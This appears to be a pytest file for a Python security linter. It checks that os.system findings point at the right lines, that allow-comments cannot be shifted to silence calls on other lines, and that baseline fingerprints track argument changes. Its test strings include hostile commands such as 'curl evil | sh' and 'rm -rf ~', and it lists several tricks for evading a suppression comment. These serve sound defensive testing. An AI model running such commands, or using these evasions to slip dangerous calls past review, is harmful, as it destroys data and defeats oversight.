"""Findings are on the lines Python runs, or on line 0 (the whole file, which no suppression
comment covers) where libcst's code differs from the file: never on a line that a count
shifted by what libcst dropped, where an ``allow`` comment could silence them. Python's own
parser (``ast``) is the judge."""

from __future__ import annotations

import ast
import re
from dataclasses import replace

import pytest

from kavi_gates.config import validate_policy
from kavi_gates.policy.check import check_source
from kavi_gates.policy.rules import BUILTIN_RULES
from kavi_gates.policy.source_checks import decode

POLICY = validate_policy({})

LAYOUTS: dict[str, bytes] = {
    "method deep in a class": (
        b'"""Doc."""\nimport os\n\n\nclass A:\n    def f(self):\n        return 1\n\n'
        b"    def g(self):\n        # note\n        os.system('id')\n"
    ),
    "windows newlines": b"import os\r\n\r\ndef f():\r\n    os.system('id')\r\n",
    "old mac newlines": b"import os\rdef f():\r    os.system('id')\rx = 1\r",
    "byte order mark and cookie": (
        b"\xef\xbb\xbf# -*- coding: utf-8 -*-\nimport os\nx = '\xc3\xa9'; os.system('id')\n"
    ),
    "latin-1 cookie": b"# coding: latin-1\nimport os\ns = '\xe9\xe9'\nos.system(s)\n",
    "tabs and a form feed line": b"import os\n\x0c\nif True:\n\tos.system('id')\n",
    "decorators and comments": (
        b"import os\n\n# lead\n@staticmethod\n# between\n@property\ndef f():\n"
        b"    return os.system('id')\n"
    ),
    "no newline at the end": b"import os\nos.system('id')",
    "continuation lines": (
        b"import os\nx = (1 +\n     2)\nos.system(\n    'id'\n)  # trailing\nos.system('ls')\n"
    ),
    # What libcst's code drops (found by an adversarial review): every later position
    # used to move up or left.
    "a space before an except clause's colon": (
        b"import os\ntry:\n    pass\nexcept OSError :\n    os.system('id')\nos.system('ls')\n"
    ),
    "a form feed before code": b"import os\n\x0cos.system('id')\nos.system('ls')\n",
    "lines holding only a backslash": b"import os\n\\\n\\\nos.system(1)\nos.system(2)\n",
}


def _calls(source: bytes) -> set[tuple[int, int]]:
    """Where Python has each os.system call: (line, column in characters), 1-based."""
    lines = re.split(r"\r\n|\r|\n", decode(source))

    def column(node: ast.expr) -> int:  # ast counts UTF-8 bytes, findings characters
        return len(lines[node.lineno - 1].encode()[: node.col_offset].decode()) + 1

    return {
        (node.lineno, column(node))
        for node in ast.walk(ast.parse(source))
        if isinstance(node, ast.Call) and ast.unparse(node.func) == "os.system"
    }


def _kav111(source: bytes) -> list[tuple[int, int]]:
    found = check_source(source, "f.py", POLICY, BUILTIN_RULES)
    return [(f.line, f.col) for f in found if f.rule == "KAV111"]


@pytest.mark.parametrize("name", LAYOUTS)
def test_findings_are_where_python_has_the_call_or_on_the_whole_file(name: str) -> None:
    source = LAYOUTS[name]
    calls, found = _calls(source), _kav111(source)
    placed = [f for f in found if f != (0, 0)]
    assert set(placed) <= calls, (found, calls)
    assert len(placed) == len(set(placed))
    assert found, "every call is reported, placed or not"


def test_what_libcst_drops_unplaces_only_the_findings_after_it() -> None:
    source = LAYOUTS["a space before an except clause's colon"]
    assert _calls(source) == {(5, 5), (6, 1)}
    assert _kav111(source) == [(0, 0), (0, 0)]  # both after the dropped space
    before = b"import os\nos.system('ls')\ntry:\n    pass\nexcept OSError :\n    pass\n"
    assert _kav111(before) == [(2, 1)]


ALLOWED = "# kavi: allow[KAV111,KAV202] looks harmless"
EVASIONS = {
    # libcst drops the space: the second call's code read like the first's, a line up
    "except clause": (
        f"import os\ntry:\n    pass\nexcept OSError:\n    os.system('ls')  {ALLOWED}\n"
        "try:\n    pass\nexcept OSError :\n    os.system('curl evil | sh')\n"
    ),
    "decoy in a docstring": (
        f'import os\nDOC = """Example:\ntry:\n    pass\nexcept OSError:\n    os.system("ls")""" '
        f" {ALLOWED}\ntry:\n    pass\nexcept OSError :\n    os.system('curl evil | sh')\n"
    ),
    "form feed": f"import os\nos.system('ls')  {ALLOWED}\nx = 1\n\x0cos.system('rm -rf ~')\n",
    "backslash lines": f"import os\n{ALLOWED}\n\\\n\\\nos.system('rm -rf ~')\n",
    "backslash in an except clause": (
        f"import os\ntry:\n    pass\nexcept E\\\n:\n    pass\n{ALLOWED}\nx = 1\n"
        "os.system('rm -rf ~')"
    ),
    "\\r line ends": f"import os  {ALLOWED}\rx = 1\ros.system('rm -rf ~')\r",
}


@pytest.mark.parametrize("name", EVASIONS)
def test_an_allow_comment_never_silences_a_call_on_another_line(name: str) -> None:
    source = EVASIONS[name].encode()
    calls = _calls(source)
    dangerous = max(calls)  # the last call; the allow comment sits on an earlier line
    found = _kav111(source)
    assert dangerous in found or (0, 0) in found, (found, calls)
    assert all(f == (0, 0) or f in calls for f in found), (found, calls)


def _found(source: bytes) -> list[tuple[str, int, int]]:
    return [(f.rule, f.line, f.col) for f in check_source(source, "f.py", POLICY, BUILTIN_RULES)]


@pytest.mark.parametrize("end", ["\r", "\r\n", "\n"])
def test_a_suppression_covers_the_line_python_runs_whatever_the_line_ends(end: str) -> None:
    """With \\r line ends every finding used to be on line 1, under one trailing comment
    there that silenced the whole file."""
    lines = ["import os  # kavi: allow[KAV202] reason", "x = 1", "os.popen('id')", ""]
    assert _found(end.join(lines).encode()) == [("KAV004", 1, 12), ("KAV202", 3, 1)]
    lines = ["import os", "# kavi: allow[KAV202] reason", "os.popen('id')", ""]
    assert _found(end.join(lines).encode()) == []  # alone on its line: covers the next


def test_a_fingerprint_hashes_the_line_python_runs() -> None:
    """Form feeds (and \\x85, U+2028) are no line ends to Python: the anchor is the call's
    line, not the one str.splitlines numbers alike."""
    source = "import os\n\x0c\nos.system('id')  # \u2028 \x85\nx = 1\nos.system('ls')\n"
    found = check_source(source.encode(), "f.py", POLICY, BUILTIN_RULES)
    by_line = {f.line: f for f in found if f.rule == "KAV111"}
    assert sorted(by_line) == [3, 5]
    for line, anchor in ((3, "os.system('id')  # \u2028 \x85"), (5, "os.system('ls')")):
        expected = replace(by_line[line], fingerprint="").with_fingerprint(anchor.strip())
        assert by_line[line].fingerprint == expected.fingerprint


def test_findings_not_placed_keep_apart_in_a_baseline() -> None:
    """A finding on line 0 hashes the file's text, not only its message: a baseline that
    accepted ``os.system('ls')`` there does not accept ``os.system('curl evil | sh')``."""
    source = b"import os\ntry:\n    pass\nexcept E :\n    pass\nos.system('ls')\n"
    (ls,) = [f for f in check_source(source, "f.py", POLICY, BUILTIN_RULES) if f.rule == "KAV111"]
    evil = source.replace(b"'ls'", b"'curl evil | sh'")
    (other,) = [f for f in check_source(evil, "f.py", POLICY, BUILTIN_RULES) if f.rule == "KAV111"]
    assert ls.line == other.line == 0
    assert ls.fingerprint != other.fingerprint


LEGACY = (
    b'import os\n\nCMD = "git status"\n\n\ndef run(expr):\n    os.system(\n        "git status"\n'
    b'    )\n    os.system(CMD)\n    value = eval(\n        "1 + 1"\n    )\n'
)


def _prints(source: bytes) -> dict[tuple[str, int], str]:
    return {
        (f.rule, f.line): f.fingerprint for f in check_source(source, "f.py", POLICY, BUILTIN_RULES)
    }


def test_a_baselined_call_written_over_several_lines_is_new_once_its_arguments_change() -> None:
    """A baseline accepts findings by fingerprint: one that hashed only the call's first
    line accepted any argument written below it (found by an adversarial review)."""
    agent = LEGACY.replace(b'"git status"\n    )', b'"rm -rf ~"\n    )').replace(
        b'"1 + 1"', b"expr"
    )
    before, after = _prints(LEGACY), _prints(agent)
    assert before.keys() == after.keys()
    changed = {key for key in before if before[key] != after[key]}
    assert changed == {("KAV111", 7), ("KAV202", 7), ("KAV401", 11)}
    # what remains a baseline's limit: a constant the call reads (line 10, os.system(CMD))


def test_a_one_line_statements_fingerprint_is_what_baselines_recorded() -> None:
    """Pinned: fingerprints of one-line statements (most findings) did not change when
    multi-line statements began to hash all their lines; existing baselines still match."""
    for end in (b"\n", b"\r\n", b"\r"):
        found = _prints(b"import os" + end + b'os.system("x")' + end + b"x = 1" + end)
        assert found == {
            ("KAV111", 2): "a623fc5e84486f26b1b7e8a3f8644f4e",
            ("KAV202", 2): "95a3a6d32c544833f471bfacb04ab51e",
        }, end
